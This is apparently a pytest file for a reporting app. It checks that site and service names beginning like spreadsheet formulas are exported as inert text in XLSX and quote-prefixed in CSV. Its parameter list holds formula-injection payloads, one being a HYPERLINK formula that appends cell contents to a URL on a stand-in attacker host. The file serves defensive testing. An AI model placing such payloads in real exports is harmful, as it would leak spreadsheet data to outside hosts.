"""Desktop exports never carry a live formula: a site or directory name that starts like one stays text (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app import exports
from app.sync.wire import WeeklyReport

SERVICE = "hsds:9441d2e6-a0d6-56b3-a7f1-9adacc7ab828"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Puhos")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_formula_like_site_or_service_name_is_text_in_the_desktop_csv_and_xlsx(name: str, tmp_path: Path) -> None:
    report = WeeklyReport(
        site=name,
        week="2026-W47",
        visits=2,
        participants=2,
        counts={"outcome": {"referred": 1}, "referral_service": {SERVICE: 1}},
    )
    target = tmp_path / "weeks.xlsx"
    exports.write_xlsx([report], target, {SERVICE: {"fi": name, "sv": name, "en": name}})
    book = load_workbook(target)
    formulas = [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    assert book["total"]["B2"].value == name
    [service_row] = list(book["referral_service"].iter_rows(min_row=3, values_only=True))
    assert service_row[1] == name and service_row[3:6] == (name, name, name)
    rows = list(csv.DictReader(io.StringIO(exports.to_csv([report]))))
    assert {row["site"] for row in rows} == {"'" + name}
    assert all(not row["site"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)


def test_ordinary_names_and_counts_are_written_as_they_are() -> None:
    report = WeeklyReport(site="Itäkeskus - kirjasto", week="2026-W47", visits=3, participants=3, counts={})
    rows = list(csv.DictReader(io.StringIO(exports.to_csv([report]))))
    assert {row["site"] for row in rows} == {"Itäkeskus - kirjasto"} and rows[0]["count"] == "3"
